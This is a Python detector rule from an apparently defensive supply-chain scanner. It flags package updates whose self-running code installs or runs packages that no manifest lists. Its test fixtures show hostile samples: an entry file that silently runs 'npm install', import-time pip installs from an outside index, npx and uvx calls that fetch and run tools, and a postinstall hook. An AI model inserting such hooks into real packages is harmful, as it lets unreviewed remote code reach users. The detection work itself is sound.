"""This update installs other packages while it runs.

## What it detects
A command of a package manager that names a package to install or to run from the registry, started by code that runs
by itself, new to the line; heavier where the command also says which index to ask. An installation of what the project
itself lists names nothing and is left alone.

## Why it matters
What is installed like this stands in no manifest and in no lockfile: no review, no cooldown and no gate sees it, and it
may be another thing tomorrow.

## What it misses
Packages named at run time only; managers of operating systems; lines that always did.

## References
- MITRE ATT&CK T1195.002; T1105, Ingress Tool Transfer
"""

import re
from collections.abc import Iterator
from functools import cache

from lazaretto.core.facts import Kind
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, decoded, package_json, runs_by_itself
from lazaretto.core.update import ArtifactView, Update

CARD = Card(
    id="package-installed",
    title="Installs other packages",
    variants={
        "other-index": "Code that runs by itself installs a package, and says from which index.",
        "autorun": "Code that runs by itself installs or runs a package that no manifest names.",
        "call": "A function installs or runs a package that no manifest names; no earlier release did.",
        "first-contact": "There is no earlier release; code that runs by itself installs a package.",
    },
    group="dependency",
    why="It stands in no lockfile, and may be another thing tomorrow.",
    attack=("T1195.002", "T1105"),
)

_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
_INSTALL = "require('child_process').execSync('npm install --silent left-helper');\nmodule.exports = (a) => a;\n"

EXAMPLES = (
    Example(
        title="the entry file installs a package",
        before=_BEFORE,
        after={"package.json": package_json("1.0.1"), "index.js": _INSTALL},
        expect="autorun",
        at="index.js:1",
    ),
    Example(
        title="a Python package installs another one from an index of its own at import",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', '-q',"
            " '--index-url', 'https://index.invalid/simple', 'pad-helper'])\nWIDTH = 2\n"
        },
        expect="other-index",
        at="pad/__init__.py:2",
    ),
    Example(
        title="a command of a tool runs another tool from the registry",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "exports.lint = () => require('child_process').execSync('npx --yes left-lint .');\n",
        },
        expect="call",
        at="index.js:1",
    ),
    Example(
        title="first contact with an install script that installs a package",
        after={
            "package.json": package_json("1.0.0", scripts={"postinstall": "node index.js"}),
            "index.js": _INSTALL,
        },
        expect="first-contact",
        at="index.js:1",
    ),
    Example(
        title="a module has a tool fetched from an address and run",
        ecosystem="pypi",
        before={"pad/__init__.py": "WIDTH = 2\n"},
        after={
            "pad/__init__.py": "import shutil, subprocess\n"
            "subprocess.run([shutil.which('uvx'), '--from', 'git+https://git.invalid/helper', 'helper'])\nWIDTH = 2\n"
        },
        expect="autorun",
        at="pad/__init__.py:2",
    ),
    Example(
        title="a tool installs what its user's project lists",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": "const { execSync } = require('child_process');\n"
            "execSync('npm install');\nexecSync('pip install -r requirements.txt');\nexecSync('npm ci --omit=dev');\n",
        },
    ),
    Example(
        title="a tool that always installed its helper",
        before={"package.json": package_json("1.0.0"), "index.js": _INSTALL},
        after={"package.json": package_json("1.0.1"), "index.js": _INSTALL + "exports.version = 2;\n"},
    ),
)

_MESSAGES = {
    "other-index": "installs, without being called, a package from an index that it names",
    "autorun": "installs or runs, without being called, a package that no manifest names",
    "call": "installs or runs, when it is called, a package that no manifest names, the first in this line",
    "first-contact": "installs or runs, without being called, a package that no manifest names",
}
_OPTION = r"(?:-\S*(?:\s+https?://\S+)?\s+)*"
_NAME = r"""(?![-./~*$%{]|file:) ["']? @?[a-z][\w./@~^\[\],=<>!-]*"""
_INSTALLS = rf"""
    (?:^|[\s("'`/]) (?:
        (?:npm|pnpm|bun)(?:\.cmd)? \s+ {_OPTION} (?:i|install|add) \s+ {_OPTION} {_NAME}
        | yarn (?:\s+global)? \s+ add \s+ {_OPTION} {_NAME}
        | (?:pip3?|pipx|uv\s+pip|uv\s+tool) \s+ {_OPTION} install \s+ {_OPTION} {_NAME}
        | (?:npx|bunx|uvx|pnpm\s+dlx|yarn\s+dlx) \s+ (?:-y|--yes|--quiet|-q) \s+ {_NAME}
        | (?:npx|(?:npm|pnpm)\s+(?:exec|x)) \s+ (?:-\S+\s+)* (?:--package|-p)[=\s] \s* {_NAME}
        | (?:uvx|uv\s+tool\s+run|pipx\s+run) \s+ (?:-\S+\s+)* (?:--from|--spec)[=\s] \s* (?:[a-z]+\+)? https?://
    )
"""
_INDEX = r"--(?:extra-)?index-url|--registry|(?:^|\s)-i\s+https?://|--find-links\s+https?://"
_PARTS = re.compile(r"[;&|\n]+")
_OF_FILES = re.compile(r"\s(?:-r|--requirement|-e|--editable)\s")


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant."""
    tally = Tally(CARD)
    for pair in update.pairs:
        had = _had(pair.before) if pair.before else frozenset()
        for placed in pair.gained(Kind.PROCESS_SPAWN):
            alone = runs_by_itself(placed)
            if (
                not installs(placed.fact.value)
                or (True in had if alone else had)
                or (pair.before is None and not alone)
            ):
                continue
            index = alone and _pattern(_INDEX).search(placed.fact.value or "") is not None
            variant = "other-index" if index else "first-contact" if pair.before is None else "autorun"
            tally.add(variant if alone else "call", pair, placed)
            tally.explain(variant if alone else "call", decoded(pair, placed.path))
    yield from tally.findings(_MESSAGES)


def installs(command: str | None) -> bool:
    """Whether a command line names a package that a package manager is to bring."""
    return any(
        _pattern(_INSTALLS).search(part) is not None and _OF_FILES.search(f"{part} ") is None
        for part in _PARTS.split(command or "")
    )


def _had(view: ArtifactView) -> frozenset[bool]:
    """Return for each place where the line did it whether it ran by itself."""
    spawned = (placed for placed in view.placed if placed.fact.kind is Kind.PROCESS_SPAWN)
    return frozenset(runs_by_itself(placed) for placed in spawned if installs(placed.fact.value))


@cache
def _pattern(source: str) -> re.Pattern[str]:
    return re.compile(source, re.VERBOSE | re.IGNORECASE)
